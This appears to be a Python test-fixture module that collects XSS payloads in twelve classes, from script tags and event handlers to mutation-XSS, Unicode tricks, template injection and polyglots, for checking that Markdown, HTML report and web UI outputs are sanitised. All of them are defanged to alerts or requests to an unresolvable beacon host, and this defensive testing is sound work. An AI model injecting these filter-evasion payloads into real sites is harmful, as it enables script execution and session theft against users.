"""A corpus of hostile strings for the output paths (Markdown, HTML report, web UI).

Drawn from the usual public lists (OWASP XSS filter evasion cheat sheet, PortSwigger
XSS cheat sheet, known mutation-XSS and polyglot payloads) and adapted so that every
one announces itself if it ever runs: it calls alert/confirm/prompt/print, writes
`window.__xss`, logs to the console or sends a request to `beacon.invalid`.
`PAYLOADS` is a list of (class, payload); `URL_PAYLOADS` are hostile link targets.
"""

from __future__ import annotations

B = "//beacon.invalid/x"  # a beacon target that cannot resolve; the browser test watches requests

_SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<script src=//beacon.invalid/x.js></script>",
    "<script>window.__xss='plain'</script>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "<script/x>alert(4)</script>",
    "<script\n>alert(5)</script\n>",
    "<<script>alert(6);//<</script>",
    "<script>/*</script><script>*/alert(7)</script>",
    "<script type=module>alert(8)</script>",
    "<script>console.log('xss-console')</script>",
    f"<script>fetch('{B}')</script>",
]
_EVENTS = [
    "<img src=x onerror=alert(10)>",
    "<img src=x onerror=\"window.__xss='img'\">",
    "<IMG SRC=x OnErRoR=alert(11)>",
    "<img/src=x/onerror=alert(12)>",
    "<img src=x onerror=alert`13`>",
    "<body onload=alert(14)>",
    "<div onmouseover=alert(15)>hover me</div>",
    "<a onclick=alert(16)>click me</a>",
    "<details open ontoggle=alert(17)>",
    "<input autofocus onfocus=alert(18)>",
    "<video><source onerror=alert(19)></video>",
    "<audio src=x onerror=alert(20)>",
    "<marquee onstart=alert(21)>",
    "<select autofocus onfocus=alert(22)>",
    "<textarea autofocus onfocus=alert(23)>",
    "<keygen autofocus onfocus=alert(24)>",
    "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(25)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(26)>",
    f"<img src=x onerror=\"new Image().src='{B}'\">",
    "<style onload=alert(27)></style>",
]
_URLS = [
    "<a href=\"javascript:alert(30)\">click me</a>",
    "<a href=\"JaVaScRiPt:alert(31)\">click me</a>",
    "<a href=\"jav&#x09;ascript:alert(32)\">click me</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(33)\">click me</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(34)\">x</a>",
    "<a href=\" &#14; javascript:alert(35)\">x</a>",
    "<a href=\"java\nscript:alert(36)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgzNyk8L3NjcmlwdD4=\">x</a>",
    "<a href=\"vbscript:msgbox(38)\">x</a>",
    "<iframe src=\"javascript:alert(39)\"></iframe>",
    "<form action=\"javascript:alert(40)\"><button>go</button></form>",
    "<button formaction=\"javascript:alert(41)\">go</button>",
    "<object data=\"javascript:alert(42)\"></object>",
    "<embed src=\"data:text/html,<script>alert(43)</script>\">",
    "<base href=\"javascript:alert(44)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(45)\">",
    "<link rel=stylesheet href=//beacon.invalid/x.css>",
    "<a href=\"\\x01javascript:alert(46)\">x</a>",
]
_SVG_MATH = [
    "<svg onload=alert(50)>",
    "<svg><script>alert(51)</script></svg>",
    "<svg><animate onbegin=alert(52) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(53)\"><text x=20 y=20>click me</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(54)>",
    "<svg><foreignObject><img src=x onerror=alert(55)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(56)>",
    "<math href=\"javascript:alert(57)\">click me</math>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(58)>\">",
    "<iframe srcdoc=\"<script>parent.alert(59)</script>\"></iframe>",
    "<iframe srcdoc=\"&lt;img src=x onerror=parent.alert(60)&gt;\"></iframe>",
]
_MXSS = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert(61)>\">",
    "<template><script>alert(62)</script></template>",
    "<style></style><img src=x onerror=alert(63)>",
    "<xmp><img src=x onerror=alert(64)></xmp>",
    "<title><img src=x onerror=alert(65)></title>",
    "<textarea></textarea><img src=x onerror=alert(66)>",
    "<plaintext><img src=x onerror=alert(67)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(68)>",
    "<table><td><img src=x onerror=alert(69)></td></table>",
]
_BROKEN = [
    "<img src=x onerror=alert(70)",
    "<a href=\"javascript:alert(71)\"",
    "<div><span><img src=x onerror=alert(72)>unclosed",
    "</div></td></table></section></main><img src=x onerror=alert(73)>",
    "</textarea></select></style></title></noscript><script>alert(74)</script>",
    "<<img src=x onerror=alert(75)>>",
    "<img src=\"x\"\"onerror=alert(76)>",
    "<img \"\"\"><script>alert(77)</script>\">",
    "<!--><img src=x onerror=alert(78)>-->",
    "<!-- --!><img src=x onerror=alert(79)> -->",
    "--><script>alert(80)</script><!--",
    "<![CDATA[<script>alert(81)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(82)</script>",
]
_BREAKOUTS = [
    "\" onmouseover=\"alert(83)",
    "' onmouseover='alert(84)",
    "\"><script>alert(85)</script>",
    "'><img src=x onerror=alert(86)>",
    "` onmouseover=alert(87) `",
    "\" autofocus onfocus=\"alert(88)\" x=\"",
    "</script><script>alert(89)</script>",
    "</SCRIPT ><script>alert(90)</script>",
    "<!--<script>",
    "\\u003c/script\\u003e<script>alert(91)</script>",
    "\"}]}</script><script>alert(92)</script>",
    "';alert(93);//",
    "\";alert(94);//",
    "#\" onclick=\"alert(95)",
]
_MARKDOWN = [
    "[click me](javascript:alert(100))",
    "![x](javascript:alert(101))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMDIpPC9zY3JpcHQ+)",
    "<javascript:alert(103)>",
    "[a]: javascript:alert(104)\n\n[a]",
    "[x](  javascript:alert(105)  )",
    "[x](jav&#x61;script:alert(106))",
    "[x](vbscript:alert(107))",
    "`<img src=x onerror=alert(108)>`",
    "*<img src=x onerror=alert(109)>*",
    "| a | <img src=x onerror=alert(110)> |",
    "<details><summary>x</summary><img src=x onerror=alert(111)></details>",
    "\\<script>alert(112)</script>",
    "[x](#\" onclick=\"alert(113))",
]
_UNICODE = [
    "\u202egnp.exe<img src=x onerror=alert(120)>",
    "jav\u200bascript:alert(121)",
    "<scr\u200bipt>alert(122)</script>",
    "\uff1cscript\uff1ealert(123)\uff1c/script\uff1e",
    "<img src=x onerror=\u0061lert(124)>",
    "\u0000<script>alert(125)</script>",
    "<\u0000script>alert(126)</script>",
    "\ufeff<script>alert(127)</script>",
    "<scr\u0131pt>alert(128)</scr\u0131pt>",
    "\u2028<script>alert(129)</script>\u2029",
    "\U0001F4A9<img src=x onerror=alert(130)>",
    "e\u0301<svg onload=alert(131)>",
    "\u180e<script>alert(132)</script>",
]
_TEMPLATES = [
    "{{ 7*7 }}{{ config }}",
    "{% raw %}{{ cycler.__init__.__globals__ }}{% endraw %}",
    "${alert(140)}",
    "{{constructor.constructor('alert(141)')()}}",
    "<div ng-app ng-csp>{{$on.constructor('alert(142)')()}}</div>",
]
_CSS = [
    "<style>*{background:url(//beacon.invalid/x.png)}</style>",
    "<div style=\"background:url(javascript:alert(150))\">x</div>",
    "<div style=\"width:expression(alert(151))\">x</div>",
    "</style><script>alert(152)</script>",
    "<link rel=import href=//beacon.invalid/x.html>",
]
_POLYGLOTS = [
    ("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(160) )//%0D%0A%0d%0a//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(161)//>\\x3e"),
    "'\"--></style></script><svg onload=alert(162)>",
    "\"'`><\\x3Cimg src=x onerror=alert(163)>",
    "-->'\"/></sCript><deTailS open x=\">\" ontoggle=alert(164)>",
]

PAYLOADS: list[tuple[str, str]] = (
    [("script", p) for p in _SCRIPT] + [("event-handler", p) for p in _EVENTS]
    + [("url-scheme", p) for p in _URLS] + [("svg-math-iframe", p) for p in _SVG_MATH]
    + [("mutation", p) for p in _MXSS] + [("broken-markup", p) for p in _BROKEN]
    + [("breakout", p) for p in _BREAKOUTS] + [("markdown", p) for p in _MARKDOWN]
    + [("unicode", p) for p in _UNICODE] + [("template", p) for p in _TEMPLATES]
    + [("css", p) for p in _CSS] + [("polyglot", p) for p in _POLYGLOTS]
)

# Link targets for the fields that hold a URL (a source's address).
URL_PAYLOADS = [
    "javascript:alert(200)", " JaVaScRiPt:alert(201)", "\tjavascript:alert(202)", "java\tscript:alert(203)",
    "java\nscript:alert(204)", "javascript&colon;alert(205)", "&#106;avascript:alert(206)",
    "data:text/html,<script>alert(207)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgyMDgpPC9zY3JpcHQ+",
    "vbscript:msgbox(209)", "//beacon.invalid/x", "/\\beacon.invalid/x", "\\\\beacon.invalid\\x",
    "http://example.com/\"onmouseover=\"alert(210)", "http://example.com/'><script>alert(211)</script>",
    "https://example.com/<img src=x onerror=alert(212)>", "http://example.com/ onmouseover=alert(213)",
    "https://exa\u202emple.com/", "\x01javascript:alert(214)", "javascript://example.com/%0Aalert(215)",
    "http://[oops/<script>alert(216)</script>",  # not parseable as a URL at all
]
